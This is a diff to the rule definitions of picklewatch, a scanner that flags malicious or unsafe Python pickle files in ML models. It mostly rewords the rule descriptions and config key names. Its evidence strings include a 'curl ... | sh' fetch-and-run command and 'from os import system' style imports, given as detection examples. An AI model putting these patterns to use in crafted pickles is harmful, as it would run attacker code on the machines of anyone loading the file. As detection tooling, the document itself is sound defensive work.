@@ -8,8 +8,10 @@ from picklewatch.core.model import Level
 _DELETE = "Don't load the file. Delete it or let picklewatch quarantine it, and fetch the model again from a source you trust, as safetensors if there is one."
 _LOOK = "Look at `picklewatch explain FILE`. If you know the project that the name belongs to and trust the file's source, load it; else ask for safetensors."
 _AGAIN = "Fetch the file again: it may be damaged or cut short. If it comes the same, don't load it."
-_DIGEST_ONLY = "Allow the file's digest if you know what it does: `[allow] digests`. The rule cannot be switched off."
-_IMPORT = "Allow the import by its exact name with a reason, under `[allow] imports`, or the file's digest under `[allow] digests`."
+_DIGEST_ONLY = (
+    "If you know the file's effect, allow its digest under `[allow.digests]`. The rule cannot be switched off."
+)
+_IMPORT = "Allow the import by its exact name with a reason, under `[allow.imports]`, or the file's digest under `[allow.digests]`."
 
 RULES: tuple[Rule, ...] = (
     # --- imports that do harm ---
@@ -57,8 +59,8 @@ RULES: tuple[Rule, ...] = (
         id="interpreter-state",
         level=Level.MALICIOUS,
         title="Changes the interpreter itself",
-        meaning="The pickle sets attributes of modules, classes or functions, or imports what changes the interpreter's own state.",
-        danger="What it changes stays changed for the whole process: later, harmless-looking calls run the attacker's code.",
+        meaning="The pickle sets attributes of modules, classes or functions, or imports something that changes the interpreter's own state.",
+        danger="The change lasts for the whole process: later, harmless-looking calls run the attacker's code.",
         evidence="collections.OrderedDict.__setstate__((None, {'__init__': ...}))",
         action=_DELETE,
         allow=_DIGEST_ONLY,
@@ -87,8 +89,8 @@ RULES: tuple[Rule, ...] = (
         id="dynamic-import",
         level=Level.MALICIOUS,
         title="Imports a name that is computed while loading",
-        meaning="The name of an import is not a constant of the pickle, so nobody can tell what it imports without running it.",
-        danger="Only somebody who hides an import writes that: picklers never do.",
+        meaning="The name of an import is not a constant of the pickle, so nobody can know the import without running the pickle.",
+        danger="Picklers never write this; it only serves to hide an import.",
         evidence="from str(...) import 'system'",
         action=_DELETE,
         allow=_DIGEST_ONLY,
@@ -103,7 +105,7 @@ RULES: tuple[Rule, ...] = (
         action=_DELETE,
         allow=_DIGEST_ONLY,
     ),
-    # --- doubts about imports ---
+    # --- concerns about imports ---
     Rule(
         id="unlisted-stdlib",
         level=Level.UNSAFE,
@@ -119,7 +121,7 @@ RULES: tuple[Rule, ...] = (
         level=Level.UNSAFE,
         title="Calls a function that nobody vouched for",
         meaning="The pickle calls a function of a library, with arguments of its author's choosing, and the function is not known to be harmless.",
-        danger="Loading runs it. What it does is up to that library.",
+        danger="Loading runs it. Its effect depends on that library.",
         evidence="mylib.utils.restore('latest')",
         action=_LOOK,
         allow=_IMPORT,
@@ -127,9 +129,9 @@ RULES: tuple[Rule, ...] = (
     Rule(
         id="suspicious-arguments",
         level=Level.UNSAFE,
-        title="Arguments that an attack is made of",
-        meaning="A call is given a network address, a shell command, code, a file's path or the name of something dangerous, or otherwise something it never gets in ordinary files.",
-        danger="Data types need numbers and labels. Such arguments are what makes an unknown function an attack.",
+        title="Arguments typical of an attack",
+        meaning="A call is given a network address, a shell command, code, a file's path or the name of something dangerous, or anything else that it never gets in ordinary files.",
+        danger="Data types need numbers and labels. Such arguments turn an unknown function into an attack.",
         evidence="somelib.Runner('curl http://203.0.113.7/x | sh')",
         action=_LOOK,
         allow=_IMPORT,
@@ -139,7 +141,7 @@ RULES: tuple[Rule, ...] = (
         level=Level.UNSAFE,
         title="Walks over attributes",
         meaning="The pickle reaches something by a path of attributes, or an internal attribute, or fetches an attribute by name.",
-        danger="Any module that another one imports can be reached so, past lists of dangerous names.",
+        danger="Any module that another one imports can be reached this way, past lists of dangerous names.",
         evidence="from mylib.io import reader.os.path",
         action=_LOOK,
         allow=_IMPORT,
@@ -147,9 +149,9 @@ RULES: tuple[Rule, ...] = (
     Rule(
         id="computed-call",
         level=Level.UNSAFE,
-        title="Calls what another call returned",
+        title="Calls the result of another call",
         meaning="The pickle calls the result of an earlier call.",
-        danger="What runs cannot be read off the file.",
+        danger="The file does not show which code runs.",
         evidence="getattr(model.Net, 'restore')('x')",
         action=_LOOK,
         allow=_DIGEST_ONLY,
@@ -157,7 +159,7 @@ RULES: tuple[Rule, ...] = (
     Rule(
         id="indirect-call",
         level=Level.UNSAFE,
-        title="Hands a function to something that calls it",
+        title="Passes a function to something that calls it",
         meaning="The pickle uses map, partial, reduce or the like, which call the function that they are given, now or later.",
         danger="A call is hidden in an argument.",
         evidence="map(mylib.run, ['x'])",
@@ -168,7 +170,7 @@ RULES: tuple[Rule, ...] = (
         id="extension-registry",
         level=Level.UNSAFE,
         title="Imports by a number",
-        meaning="The pickle imports by a code of copyreg's extension registry. What it stands for depends on the process that loads it.",
+        meaning="The pickle imports by a code of copyreg's extension registry. Its meaning depends on the process that loads it.",
         danger="The import cannot be known from the file.",
         evidence="EXT1 42",
         action=_LOOK,
@@ -201,14 +203,14 @@ RULES: tuple[Rule, ...] = (
         meaning="An old joblib file names other files of its directory that hold its arrays.",
         danger="Those files are loaded too; each is judged by itself.",
         evidence="{'filename': 'model.pkl_01.npy'}",
-        action="See that the files beside it were scanned.",
+        action="Make sure that the files beside it were scanned.",
         allow=_DIGEST_ONLY,
     ),
     # --- structure ---
     Rule(
         id="opcode-out-of-kind",
         level=Level.MALICIOUS,
-        title="An opcode on something it is not for",
+        title="An opcode on the wrong kind of object",
         meaning="SETITEM, APPEND, ADDITEMS or BUILD is used on an object that is no dict, list, set or instance.",
         danger="Picklers never write that. It corrupts memory in torch's weights_only loader (CVE-2026-24747) and confuses scanners.",
         evidence="torch._utils._rebuild_tensor_v2(...)[0] = 1",
@@ -280,7 +282,7 @@ RULES: tuple[Rule, ...] = (
         level=Level.UNSAFE,
         title="A persistent id that is no storage",
         meaning="In a torch file, a persistent id is something other than a storage.",
-        danger="torch's loaders refuse it, others may do anything with it.",
+        danger="torch's loaders refuse it; other loaders may do anything with it.",
         evidence="('reduce_package', ...)",
         action=_LOOK,
         allow=_DIGEST_ONLY,
@@ -290,9 +292,9 @@ RULES: tuple[Rule, ...] = (
         level=Level.UNVERIFIED,
         title="Needs a loader of its own",
         meaning="The pickle refers to objects by persistent ids, outside a torch file.",
-        danger="pickle.load stops there; what another loader does is not known.",
+        danger="pickle.load stops there; the behaviour of other loaders is not known.",
         evidence="('storage', torch.FloatStorage, '0', 'cpu', 16)",
-        action="Nothing, if it is a part of a torch archive that was unpacked. Else ask what loads it.",
+        action="Nothing, if it is a part of a torch archive that was unpacked. Otherwise find out which loader it is for.",
         allow=_DIGEST_ONLY,
     ),
     Rule(
@@ -305,13 +307,13 @@ RULES: tuple[Rule, ...] = (
         action="Ask for a file that is complete.",
         allow=_DIGEST_ONLY,
     ),
-    # --- what could not be read ---
+    # --- unreadable content ---
     Rule(
         id="malformed-pickle",
         level=Level.UNSCANNABLE,
         title="A pickle that cannot be read to its end",
-        meaning="The opcodes end too early or make no sense at one point. What comes before it has been judged and would run.",
-        danger="Whatever precedes the damage still runs on loading; what follows may be read by another reader.",
+        meaning="The opcodes end too early or make no sense at one point. Everything before that has been judged and would run.",
+        danger="Everything before the damage still runs on loading; another reader may read the bytes behind it.",
         evidence="0x2b: the pickle ends inside an opcode",
         action=_AGAIN,
         allow=_DIGEST_ONLY,
@@ -321,9 +323,9 @@ RULES: tuple[Rule, ...] = (
         level=Level.UNSCANNABLE,
         title="Too many opcodes",
         meaning="The file holds more pickle opcodes than a scan may walk.",
-        danger="The rest was not looked at.",
+        danger="The rest was not scanned.",
         evidence="archive/data.pkl:0x0: the file holds more than 50000000 pickle opcodes",
-        action="Raise `[scan] opcodes` if the file is as large as that for a good reason.",
+        action="Raise `opcodes` in `[scan.limits]` if the file is as large as that for a good reason.",
         allow=_DIGEST_ONLY,
     ),
     Rule(
@@ -331,9 +333,9 @@ RULES: tuple[Rule, ...] = (
         level=Level.UNSCANNABLE,
         title="The scan took too long",
         meaning="The file's time limit was reached.",
-        danger="The rest was not looked at.",
+        danger="The rest was not scanned.",
         evidence="archive/data.pkl:0x0: the scan took longer than 60 s",
-        action="Raise `[scan] seconds` if the machine was busy or the file is large.",
+        action="Raise `time` in `[scan.limits]` if the machine was busy or the file is large.",
         allow=_DIGEST_ONLY,
     ),
     Rule(
@@ -341,17 +343,17 @@ RULES: tuple[Rule, ...] = (
         level=Level.UNSCANNABLE,
         title="The scan needed too much memory",
         meaning="Reading the pickle would take more memory than a scan may have.",
-        danger="The rest was not looked at.",
+        danger="The rest was not scanned.",
         evidence="0x0: the pickle needs more memory than a scan may take",
-        action="Raise `[scan] memory` if the file is as large as that for a good reason.",
+        action="Raise `memory` in `[scan.limits]` if the file is as large as that for a good reason.",
         allow=_DIGEST_ONLY,
     ),
     Rule(
         id="limit-findings",
         level=Level.UNVERIFIED,
-        title="Findings about more different things than are kept",
+        title="More different findings than are kept",
         meaning="There are findings about more imports and rules than a record keeps. The level is that of the most harmful one which is not listed.",
-        danger="What is not listed can't be allowed one by one, and may be what matters.",
+        danger="Unlisted findings can't be allowed one by one, and may be the important ones.",
         evidence="model.pkl:0x2f10: There are findings about more than 200 different things; one that is not listed argues for this level.",
         action=_LOOK,
         allow=_DIGEST_ONLY,
@@ -360,7 +362,7 @@ RULES: tuple[Rule, ...] = (
     Rule(
         id="fickling",
         level=Level.INFO,
-        title="What fickling's analyses say",
+        title="Result of fickling's analyses",
         meaning="The fickling engine, asked about a pickle that is not proven harmless, names an import as unsafe.",
         danger="None of its own: the finding stands beside picklewatch's own judgement and does not change the verdict.",
         evidence="`from os import system` is suspicious and indicative of an overtly malicious pickle file",
@@ -373,7 +375,7 @@ RULES: tuple[Rule, ...] = (
         level=Level.MALICIOUS,
         title="picklewatch's self-test file",
         meaning="The file imports PICKLEWATCH_SELF_TEST.harmless: it exists to show that scanning works.",
-        danger="None. It is judged as if it were hostile so that the whole way can be tried.",
+        danger="None. It is judged as if it were hostile so that the whole path can be tested.",
         evidence="from PICKLEWATCH_SELF_TEST import harmless",
         action="Nothing: this is the proof that picklewatch works.",
         allow=_DIGEST_ONLY,
